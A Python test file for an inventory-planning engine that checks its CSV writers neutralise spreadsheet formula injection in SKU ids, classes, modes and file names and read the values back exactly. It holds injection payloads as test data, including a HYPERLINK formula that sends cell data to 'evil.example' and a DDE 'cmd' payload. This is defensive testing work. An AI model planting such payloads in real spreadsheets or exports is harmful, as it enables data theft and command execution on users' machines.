"""Nothing a user writes becomes a spreadsheet formula, and the engine reads its own CSVs back exactly.

A SKU id, class, transport mode, variant or file name (or an error message quoting one) starting with
`=`, `+`, `-`, `@`, TAB, CR, LF or a full-width ＝ ＋ － ＠ reaches plan.csv, audit.csv, frontier.csv,
compare.csv and batch.csv neutralised (a leading `'`, the cell in double quotes, RFC 4180); numbers
stay numbers; enums are written by their value. The case ../shared/cases/trust/i05_csv_hyperlink.yaml (copied to tests/reliability/trust_cases/)
(a SKU id `=HYPERLINK(...)`) is run end to end through `run`, `audit`, `compare` and `batch`, and every
CSV cell the engine wrote is checked as a spreadsheet would see it."""

from __future__ import annotations

import csv
import enum
import io
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from tradeoff.csv_safe import csv_text, neutralise, read_csv, restore, rows_text

ROOT = Path(__file__).resolve().parents[2]
I05 = ROOT / "tests" / "reliability" / "trust_cases" / "i05_csv_hyperlink.yaml"  # a copy of ../shared/cases/trust/i05, so the test runs anywhere

# What a spreadsheet evaluates as a formula (or strips into one): the first character, or the first
# after leading spaces. Written out here, independently of tradeoff.csv_safe.TRIGGERS.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_IDS = [HYPERLINK, "-123", "+A", "@SUM(A1)", "\uff1dcmd"]  # the first two: real part numbers look like this

SCENARIO = """\
format: 1
name: trust
description: "=cmd|' /C calc'!A0"
seed: 7
horizon: {periods: 40, warmup: 5}
replications: 2
costs: {backorder_per_unit: 0.5}  # a shortage that costs nothing is refused in a cost-optimal run
transport:
  - {name: "-truck", lead_time: 2, cost_per_shipment: 50}
skus:
  - {id: '=HYPERLINK("http://evil.example/?x="&A1,"click")', class: "=1+1", unit_cost: 10, price: 15,
     demand: {dist: poisson, mean: 5}, current_policy: {family: sS, s: 8, S: 30, mode: "-truck"}}
  - {id: "-123", class: "-B", unit_cost: 20, price: 34, demand: {dist: poisson, mean: 2}}
  - {id: "+A", class: "-B", unit_cost: 4, price: 9, demand: {dist: poisson, mean: 7},
     current_policy: {family: base_stock, S: 25}}
  - {id: "@SUM(A1)", class: "=1+1", unit_cost: 7, price: 8, demand: {dist: poisson, mean: 3}}
  - {id: "\\uff1dcmd", unit_cost: 3, price: 5, demand: {dist: poisson, mean: 4}}
service:
  frontier: [0.9, 0.95]
policies:
  families: [sS, base_stock]
  review_periods: [0]
variants:
  "-cheap": {costs.carrying_rate: 0.3}
"""


NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def formula_like(text: str) -> bool:
    """True when a spreadsheet opening the file could take this parsed cell for a formula: it starts
    (or starts after spaces) like a formula and is not a plain number such as -20 or -1.5e-05."""
    starts = text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS)
    return starts and not NUMBER.match(text)


def formula_cells(folder: Path) -> list[tuple[str, int, str]]:
    """(file, row, cell) for every cell of every CSV under `folder` that a spreadsheet would evaluate."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            for r, row in enumerate(csv.reader(f)):
                found += [(str(path.relative_to(folder)), r, c) for c in row if formula_like(c)]
    return found


def column(path: Path, name: str) -> list[str]:
    """A column of a CSV file as a spreadsheet (or Python's csv module) parses it, before any restoring."""
    with open(path, newline="", encoding="utf-8") as f:
        return [row[name] for row in csv.DictReader(f)]


# --------------------------------------------------------------------------- the rule, cell by cell


@pytest.mark.parametrize("text", [
    HYPERLINK, "=1+1", "+A", "-123", "-1+2", "@SUM(A1)", "\tT", "\rR", "\nN", "\uff1d1", "\uff0b1", "\uff0d1",
    "\uff20x", " =1+1", "  @x", "\t=1", "'=x", "''-y", "' =x",
])
def test_a_text_cell_a_spreadsheet_would_evaluate_is_written_as_quoted_text_and_read_back_exactly(text):
    table = pd.DataFrame({"sku": [text, "plain"], "value": [-2.5, 1.0]})
    written = csv_text(table)
    rows = list(csv.reader(io.StringIO(written)))
    assert len(rows) == 3 and rows[0] == ["sku", "value"]  # a CR or LF inside a cell is quoted, never a new row
    cell = rows[1][0]
    assert not formula_like(cell)
    assert cell == "'" + text  # one leading quote, nothing else changed
    assert written.splitlines()[1].startswith('"\'')  # the neutralised cell is enclosed in double quotes
    assert rows[1][1] == "-2.5" and rows[2] == ["plain", "1"]  # a negative NUMBER is not prefixed
    back = read_csv(io.StringIO(written))
    assert list(back["sku"]) == [text, "plain"] and list(back["value"]) == [-2.5, 1.0]


@pytest.mark.parametrize("text", ["plain", "B2", "007", "NA", "1e5", "a-b", "a=b", "'quoted", "''", "a,b", 'say "hi"', ""])
def test_harmless_text_is_written_as_it_is_and_read_back_exactly(text):
    assert neutralise(text) == text and restore(text) == text
    written = csv_text(pd.DataFrame({"sku": [text, "x"], "class": ["A", "B"]}))
    assert list(csv.reader(io.StringIO(written)))[1][0] == text
    back = read_csv(io.StringIO(written), keep_default_na=False, na_values=[])
    assert list(back["sku"]) == [text, "x"]


def test_numbers_stay_numbers_and_enums_are_written_by_their_value():
    class Status(str, enum.Enum):
        optimal = "optimal"
        bad = "=bad"

    table = pd.DataFrame({
        "s": [-20.0, np.nan, -0.0], "n": np.array([-3, 0, 4], dtype=np.int64), "flag": [True, False, True],
        "mixed": [-1.5, "-x", None], "status": [Status.optimal, Status.bad, Status.optimal],
    })
    rows = list(csv.reader(io.StringIO(csv_text(table))))
    assert rows[1] == ["-20", "-3", "True", "-1.5", "optimal"]
    assert rows[2] == ["", "0", "False", "'-x", "'=bad"]
    assert rows[3] == ["0", "4", "True", "", "optimal"]
    # batch.csv's writer: the same cells, its own words for booleans
    text = rows_text(["file", "seconds", "reused", "status"],
                     [{"file": "=evil.yaml", "seconds": -0.25, "reused": True, "status": Status.optimal}],
                     bools=("true", "false"))
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=evil.yaml", "-0.25", "true", "optimal"]


@pytest.mark.parametrize("rows", [0, 1, 1023, 1024, 1025, 2500])
def test_a_table_written_a_block_of_rows_at_a_time_is_the_row_by_row_text(rows):
    """csv_text formats ROWS_PER_BLOCK rows at a time: around the block edges its text is the one
    rows_text writes cell by cell, row after row (one-column tables with empty cells too)."""
    from tradeoff.csv_safe import ROWS_PER_BLOCK

    assert ROWS_PER_BLOCK == 1024  # the parametrisation straddles this edge
    k = np.arange(rows)
    table = pd.DataFrame({"sku": [f"=s{i}" if i % 7 == 0 else f"s,{i}" for i in k], "x": k * 0.1 - 5.0,
                          "n": k.astype(np.int64), "flag": k % 2 == 0,
                          "gap": np.where(k % 5 == 0, np.nan, k / 3.0)})
    assert csv_text(table) == rows_text(list(table.columns), table.to_dict("records"))
    lone = pd.DataFrame({"note": ["" if i % 3 == 0 else f"n{i}" for i in k]})
    assert csv_text(lone) == rows_text(["note"], lone.to_dict("records"))


@settings(derandomize=True, max_examples=300, deadline=None, database=None)
@given(st.lists(st.one_of(st.text(max_size=8),
                          st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\0 \u3000,\"aZ09\uff1d")), max_size=5),
                          st.none(), st.just(float("nan")), st.just(-1.5)),
                min_size=1, max_size=12))
def test_a_text_column_written_at_once_is_the_cell_by_cell_text(texts):
    """csv_text writes a column of plain strings with the per-cell rules only where they can change
    something: its text is the one rows_text writes through `cell` and `field`, cell by cell, for any
    text (NUL, empty, non-ASCII first characters, quotes; missing values and numbers mixed in)."""
    strings = [t if isinstance(t, str) else "" for t in texts]
    table = pd.DataFrame({"sku": pd.Series(texts, dtype=object), "plain": strings, "np": np.array(strings, dtype=str)})
    assert csv_text(table) == rows_text(list(table.columns), table.to_dict("records"))


@settings(derandomize=True, max_examples=300, deadline=None, database=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n \u3000\u00a0,\"aZ09.\uff1d\uff0b\uff0d\uff20")), max_size=6),
                min_size=1, max_size=4))
def test_any_text_is_never_a_formula_once_written_and_comes_back_exactly(texts):
    written = csv_text(pd.DataFrame({"sku": texts, "n": [-1.5] * len(texts)}))
    rows = list(csv.reader(io.StringIO(written)))
    assert len(rows) == len(texts) + 1
    for text, row in zip(texts, rows[1:]):
        assert not formula_like(row[0]) and row[1] == "-1.5"
        assert restore(row[0]) == text
    back = read_csv(io.StringIO(written), keep_default_na=False, na_values=[])
    assert list(back["sku"]) == texts


def test_every_csv_writer_of_the_engine_goes_through_csv_safe():
    """One way to write CSV: a module that calls pandas' to_csv or the csv module's writers itself
    would bypass the neutralisation (found: results_io.csv_text and batch.csv's writer did)."""
    writes_csv = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    # scenarios/examples/data and scenarios/bench generate input files from fixed ids, not results
    inputs_generators = {"scenarios/examples/data/make_history.py", "scenarios/bench/make_bench.py"}
    offenders = []
    for package in ("tradeoff", "optimizer", "simulation", "scenarios"):
        for path in sorted((ROOT / package).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel == "tradeoff/csv_safe.py" or rel in inputs_generators:
                continue
            offenders += [f"{rel}:{n}" for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
                          if writes_csv.search(line)]
    assert offenders == []


# --------------------------------------------------------------------------- end to end


@pytest.fixture(scope="module")
def trust_runs(tmp_path_factory):
    """The i05 case and a scenario full of hostile ids, classes, a mode and a variant name, taken
    through `tradeoff run`, `audit`, `compare --variant all` and `batch` (twice: the second resumes),
    as a planner runs them; a broken file named `=broken.yaml` makes batch.csv quote a message."""
    from tradeoff.cli import app

    base = tmp_path_factory.mktemp("trust")
    src = base / "in"
    src.mkdir()
    shutil.copy(I05, src / "i05_csv_hyperlink.yaml")
    (src / "trust.yaml").write_text(SCENARIO, encoding="utf-8")
    out = base / "out"
    runner = CliRunner()
    results = {}
    for key, args in {
        "run": ["run", str(src / "i05_csv_hyperlink.yaml"), "--out", str(out / "run")],
        "audit": ["audit", str(src / "trust.yaml"), "--out", str(out / "audit")],
        "compare": ["compare", str(src / "trust.yaml"), str(src / "i05_csv_hyperlink.yaml"), "--variant", "all",
                    "--out", str(out / "audit")],
    }.items():
        results[key] = runner.invoke(app, args, catch_exceptions=False)
    (base / "=broken.yaml").write_text("format: 1\nname: broken\nskus: [unclosed\n", encoding="utf-8")
    from tradeoff.batch import run_batch

    batch_inputs = [src, "=broken.yaml"]  # named as typed in its folder: the file cell starts with `=`
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(base)
        first = run_batch(batch_inputs, out / "batch")
        second = run_batch(batch_inputs, out / "batch")
    return base, out, results, (first, second)


def test_i05_hyperlink_and_every_hostile_text_reach_no_csv_as_a_formula(trust_runs):
    base, out, results, (first, second) = trust_runs
    for key, res in results.items():
        assert res.exit_code == 0, (key, res.output)
    assert first.exit_status == 4 and [r["status"] for r in first.rows] == ["ok", "ok", "invalid"]
    written = sorted(str(p.relative_to(out)) for p in out.rglob("*.csv"))
    for expected in ("run/i05/plan.csv", "run/i05/frontier.csv", "audit/trust/audit.csv", "audit/compare.csv",
                     "audit/trust+-cheap/plan.csv", "batch/batch.csv", "batch/trust/plan.csv", "batch/i05/plan.csv"):
        assert expected in written
    assert formula_cells(out) == []
    # the hostile texts are there, as text a spreadsheet shows (one leading quote), not dropped or mangled
    assert column(out / "run/i05/plan.csv", "sku") == ["'" + HYPERLINK, "B2"]
    assert column(out / "audit/trust/plan.csv", "sku") == ["'" + i for i in HOSTILE_IDS]
    assert column(out / "audit/trust/plan.csv", "class")[:4] == ["'=1+1", "'-B", "'-B", "'=1+1"]
    assert set(column(out / "audit/trust/plan.csv", "mode")) == {"'-truck"}
    assert column(out / "audit/trust/audit.csv", "current_mode")[0] == "'-truck"
    with open(out / "batch/batch.csv", newline="", encoding="utf-8") as f:
        rows = {r["file"]: r for r in csv.DictReader(f)}
    assert rows["'=broken.yaml"]["message"].startswith("'=broken.yaml")  # the message quotes the file name
    # negative numbers stay numbers: an (s, S) reorder point below zero is written -20, not '-20
    reorder_points = column(out / "run/i05/plan.csv", "s")
    assert any(v.startswith("-") and float(v) < 0 for v in reorder_points), reorder_points
    assert not any(v.startswith("'") for v in reorder_points), reorder_points


def test_the_engine_reads_its_neutralised_files_back_as_the_user_wrote_them(trust_runs):
    """compare reuses a finished run by reading its CSVs: the ids come back as the scenario's, and the
    comparison of reused runs is byte for byte the comparison of fresh ones; batch resumes them."""
    import scenarios
    from tradeoff.compare import compare, load_finished

    base, out, results, (first, second) = trust_runs
    scenario = scenarios.load(base / "in" / "trust.yaml")
    reused = load_finished(out / "audit" / "trust", scenario, scenarios.content_hash(scenario), "kernel")
    assert reused is not None
    assert list(reused.plan["sku"]) == [s.id for s in scenario.skus] == HOSTILE_IDS
    assert list(reused.audit["sku"]) == HOSTILE_IDS and reused.audit["current_mode"][0] == "-truck"
    assert list(reused.plan["mode"].unique()) == ["-truck"]
    assert "compare" in results and "reused" in results["compare"].output
    fresh_out = base / "fresh"
    files = [base / "in" / "trust.yaml", base / "in" / "i05_csv_hyperlink.yaml"]
    fresh, csv_path, _ = compare(files, fresh_out, variant="all")
    assert not any(r.extras.get("reused") for r in fresh)
    fresh_bytes = csv_path.read_bytes()
    again, _, _ = compare(files, fresh_out, variant="all")
    assert all(r.extras.get("reused") for r in again)
    for r_fresh, r_again in zip(fresh, again):
        assert list(r_again.plan["sku"]) == list(r_fresh.plan["sku"])
    # all runs, all reused, or some of each (the CLI run above): the same comparison, byte for byte
    assert csv_path.read_bytes() == fresh_bytes == (out / "audit" / "compare.csv").read_bytes()
    # batch: the second pass took every finished scenario as finished
    assert [r["reused"] for r in second.rows[:2]] == [True, True]
    assert [r["solver_status"] for r in second.rows[:2]] == ["optimal", "optimal"]
